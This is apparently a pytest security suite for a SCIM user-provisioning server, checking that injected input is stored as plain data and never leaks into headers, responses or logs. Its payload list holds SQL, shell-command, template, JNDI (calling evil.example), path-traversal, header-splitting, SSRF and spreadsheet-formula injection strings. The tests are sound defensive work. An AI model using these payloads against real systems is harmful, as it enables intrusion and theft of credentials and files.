"""SECURITY, injection (I1-I4): whatever is sent is data, in the store, in answers, in headers and in the log."""

import json
import logging

import pytest

from tests.http.attacker import SEARCH, USER, check, send

PAYLOADS = [
    "' OR '1'='1",
    "'; DROP TABLE scim_resource; --",
    '" OR ""="',
    "x' UNION SELECT digest FROM scim_credential --",
    "1); SELECT randomblob(1000000000); --",
    "*)(uid=*))(|(uid=*",
    '{"$gt": ""}',
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "{0.__class__.__mro__}",
    "%(password)s %s %n",
    "$(touch /tmp/x)",
    "`id`",
    "| cat /etc/passwd",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/x}",
    "a\r\nSet-Cookie: x=y\r\n\r\n<html>",
    "\x1b]0;x\x07\x1b[31m",
    "\u2028\u2029\u0085",
    "\u202egnp.exe",
    "<script>alert(1)</script>",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "http://169.254.169.254/latest/meta-data",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_stored_and_found_as_it_was_sent(here, payload):
    """SAP SCIMono CVE-2021-21479: no text of a client is ever a template, a statement or a format."""
    here.acme.user("bystander", title="x")
    sent = {
        "displayName": payload,
        "profileUrl": payload,
        "externalId": payload,
        "name": {"givenName": payload},
        "emails": [{"value": payload, "type": payload}],
        "photos": [{"value": payload}],
    }
    user = here.acme.user(payload, **sent)
    assert user.status == 201
    stored = here.acme("GET", f"/Users/{user.id}")
    assert {name: stored.json[name] for name in sent} == sent
    assert not {"set-cookie", "x"} & set(stored.headers)
    quoted = json.dumps(payload, ensure_ascii=False).replace("/", "\\/")
    for filter in (
        f"userName eq {quoted}",
        f"displayName co {quoted}",
        f"emails[value eq {quoted} and type eq {quoted}]",
        f"externalId sw {quoted} and photos.value ew {quoted}",
    ):
        assert here.acme.find("/Users", filter).json["totalResults"] == 1, filter
        body = {"schemas": [SEARCH], "filter": f"not ({filter})"}
        assert here.acme("POST", "/Users/.search", body).json["totalResults"] == 1
    group = here.acme.group(payload, user.id)
    assert here.acme.find("/Groups", f"displayName eq {quoted}").json["Resources"][0]["id"] == group.id
    removal = {"op": "remove", "path": f"emails[type eq {quoted}]"}
    assert "emails" not in here.acme.patch(f"/Users/{user.id}", removal).json


@pytest.mark.parametrize(
    "payload", [*PAYLOADS, "userName; --", "userName desc", "id, password", "1", "", "userName eq"]
)
def test_a_payload_where_a_name_belongs_selects_nothing(here, payload):
    user = here.acme.user("ann").id
    whole = here.acme("GET", "/Users").json["Resources"]
    for query, expected in (
        ({"filter": f'{payload} eq "x"'}, {400}),
        ({"filter": f"userName {payload} 1"}, {400}),
        ({"filter": f"userName eq {payload}"}, {400, 200}),
        ({"sortBy": payload}, {400, 200}),
        ({"sortOrder": payload, "sortBy": "userName"}, {400, 200}),
        ({"count": payload or "x"}, {400, 200}),
        ({"startIndex": payload or "x"}, {400, 200}),
        ({"attributes": payload}, {200}),
        ({"excludedAttributes": payload}, {200}),
    ):
        answer = here.acme("GET", "/Users", query=query)
        assert answer.status in expected, (query, answer)
        assert answer.seconds < 2
    assert here.acme("GET", f"/Users/{user}", query={"attributes": payload.strip() or "x"}).json.keys() == {
        "schemas",
        "id",
    }
    assert here.acme("GET", "/Users", query={"excludedAttributes": payload}).json["Resources"] == whole


@pytest.mark.parametrize("operator", ["co", "sw", "ew", "eq", "gt"])
@pytest.mark.parametrize("letter", ["%", "_", "*", "\\", "?", "[", "]", "^", "a%", "%n%", "_nn", "\\%", "A_", ".*"])
def test_wildcards_are_letters(here, operator, letter):
    here.acme.user("ann", title="ann")
    here.acme.user("bob", title=f"x{letter}y")
    quoted = json.dumps(letter)
    found = here.acme.find("/Users", f"title {operator} {quoted}").json["Resources"]
    if operator in ("co", "eq", "sw", "ew"):
        assert [user["userName"] for user in found] == (["bob"] if operator == "co" else [])
    user = here.acme.user("cyd", emails=[{"value": "ann"}, {"value": letter}]).id
    here.acme.patch(f"/Users/{user}", {"op": "remove", "path": f"emails[value co {quoted}]"})
    left = here.acme("GET", f"/Users/{user}").json["emails"]
    assert left == [{"value": "ann"}]


@pytest.mark.parametrize("payload", ["a\r\nX-Evil: 1", "a\nb", "é", "${jndi:x}", "x" * 65, " ", "", "a b", "\x1b[31m"])
@pytest.mark.parametrize("header", ["X-Request-Id", "Client-Request-Id"])
def test_a_request_id_forges_neither_a_header_nor_a_line(sqlite, header, payload):
    answer = sqlite.acme("GET", "/Users", headers={header: payload})
    assert len(answer.headers["x-request-id"]) == 32
    assert "x-evil" not in answer.headers
    assert payload not in repr(sqlite.log.events) or not payload.strip()


@pytest.mark.parametrize(
    "path", ["/Users/a%0d%0aX-Evil:%201", "/Users/%E2%80%A8", "/%0d%0a", "/Users/%1b%5b31m", "/Users?x=%0d%0aX-Evil:1"]
)
def test_a_path_forges_no_header(here, path):
    """scim2-server: a Location made of the path ended the connection."""
    for method in ("GET", "DELETE"):
        assert "x-evil" not in here.acme(method, path).headers


def test_a_host_that_is_no_host_is_not_repeated(tmp_path):
    from scim_falcon import HttpSettings, create_app
    from tests.http.attacker import site

    made = site("memory", tmp_path)
    app = create_app(made.container.use_cases(), HttpSettings(log=made.log))
    for host in ("evil.example/x", "a b", "a\r\nX-Evil: 1", "<script>", "user@host", "a:port", "é.example", "." * 300):
        answer = check(send(app, "GET", "/scim/v2/Users", token=made.acme.token, environ={"HTTP_HOST": host}))
        assert answer.error == (400, None)
        assert host not in answer.body.decode()


SECRETS = {
    "userName": "canary-name@example.com",
    "displayName": "canary-display",
    "password": "canary-password",
    "externalId": "canary-external",
    "name": {"familyName": "canary-family"},
    "emails": [{"value": "canary-mail@example.com", "type": "work"}],
}


def test_no_log_line_of_any_level_and_no_refusal_tells_what_was_sent(here, caplog):
    """keycloak#52684, SCIMple#56, langwatch#4416, probo#1640: PII and tokens in logs."""
    caplog.set_level(1)
    for name in list(logging.root.manager.loggerDict):
        caplog.set_level(1, logger=name)
    acme = here.acme
    user = acme.user("ann").id
    created = acme("POST", "/Users", {"schemas": [USER], **SECRETS})
    refused = [
        acme("POST", "/Users", {"schemas": [USER], **SECRETS}),
        acme("POST", "/Users", {"schemas": [USER], **SECRETS, "active": "canary-active"}),
        acme("POST", "/Users", {"schemas": [USER], **SECRETS, "emails": "canary-mail"}),
        acme("POST", "/Users", {"schemas": ["canary"], **SECRETS}),
        acme("PUT", f"/Users/{user}", {"schemas": [USER], **SECRETS}),
        acme.patch(f"/Users/{user}", {"op": "add", "path": "userName", "value": SECRETS["userName"]}),
        acme.patch(
            f"/Users/{user}", {"op": "replace", "path": 'emails[value eq "canary-mail"]', "value": {"type": "x"}}
        ),
        acme.patch(f"/Users/{user}", {"op": "replace", "path": 'emails[value co "canary-mail"].type', "value": "x"}),
        acme.patch(f"/Users/{user}", {"op": "replace", "path": 'emails[value eq "canary-mail"', "value": {}}),
        acme.patch(f"/Users/{user}", {"op": "replace", "path": 'emails[value eq "canary-mail"] x', "value": {}}),
        acme.patch(f"/Users/{user}", {"op": "replace", "path": 'title eq "canary-title"', "value": {}}),
        acme("GET", "/Users", query={"filter": 'userName eq "canary-name@example.com'}),
        acme("GET", "/Users", query={"filter": "userName eq canary-name@example.com"}),
        acme("GET", "/Users", query={"filter": 'userName xx "canary-name@example.com"'}),
        acme("GET", "/Users", query={"filter": 'active eq "canary-name@example.com"'}),
        acme("GET", "/Users", query={"filter": 'userName eq "canary-name@example.com" and'}),
        acme("GET", "/Users", query={"count": "canary"}),
        acme("GET", "/Users", query={"sortBy": "canary@x"}),
        acme("GET", "/Users/canary-name@example.com"),
        acme("GET", "/canary-name@example.com"),
        acme("POST", "/Users", b'{"userName": "canary-name@example.com'),
        send(here.app, "GET", "/scim/v2/Users?token=canary-token", token="canary-token"),
    ]
    found = acme("GET", "/Users", query={"filter": 'userName eq "canary-name@example.com"'})
    acme("DELETE", f"/Users/{created.id}")
    assert (created.status, found.json["totalResults"]) == (201, 1)
    for answer in refused:
        assert answer.status >= 400, answer
        assert "canary" not in answer.body.decode() + repr(answer.headers), answer
    logged = repr(here.log.events) + caplog.text + repr([(record.msg, record.args) for record in caplog.records])
    assert "canary" not in logged
    assert acme.token not in logged
    assert "canary-password" not in repr((created, found, here.host("acme")))
